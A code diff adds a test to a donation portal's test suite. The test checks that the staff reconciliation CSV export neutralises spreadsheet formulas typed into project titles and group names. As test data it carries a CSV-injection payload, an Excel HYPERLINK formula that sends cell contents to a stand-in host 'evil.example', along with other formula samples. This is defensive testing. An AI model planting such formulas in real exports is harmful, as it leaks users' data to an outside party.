@@ -218,6 +218,28 @@ def test_the_month_csv_opens_in_excel_with_exact_totals(portal, rig):
     assert not any(rig.pepper.token(fake_idm(1)).hex in line for line in r.text.splitlines())  # no donor token
 
 
+def test_the_month_csv_never_turns_an_editors_title_into_a_formula(portal, rig):
+    """A title or group name typed as a formula opens in Excel as text (server_sync/csvsafe.py); the yen stay
+    numbers, the date a date."""
+    from server_sync import catalog
+
+    engine = portal.app.state.engine
+    add_user(engine, "clerk", PASSWORD)
+    the_day(rig, portal)
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"詳細")'
+    catalog.import_catalog(engine, {"groups": [{"id": "evil-club", "name": "-2+3"}], "projects": [
+        {"id": "kodomo", "group_id": "evil-club", "title": evil, "area": "children", "goal_yen": 5000},
+        {"id": "midori", "group_id": "evil-club", "title": "@SUM(A1:A9)", "area": "green", "goal_yen": 8000}]})
+    s = login(portal.url)
+    r = s.get(portal.url + "/staff/reconciliation.csv",
+              params={"month": rig.ledger.business_date().strftime("%Y-%m")}, timeout=10)
+    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
+    got = {x["project_id"]: (x["project_title"], x["group"]) for x in rows if x["row"] == "project"}
+    assert got == {"kodomo": ("'" + evil, "'-2+3"), "midori": ("'@SUM(A1:A9)", "'-2+3"), "ongaku": ("音楽祭", "")}
+    assert all(int(x["total_yen"]) > 0 and x["business_date"] == rig.ledger.business_date().isoformat()
+               for x in rows)
+
+
 def test_a_refused_refund_leaves_the_gift_counted_and_matching_the_provider(portal, rig, tmp_path):
     """The bank refused a refund (REJECTED at the provider): no money moved, so the kiosk wrote no void, only the
     signed admin_action of the attempt. The portal counts the gift, and the provider's file (the payment, no
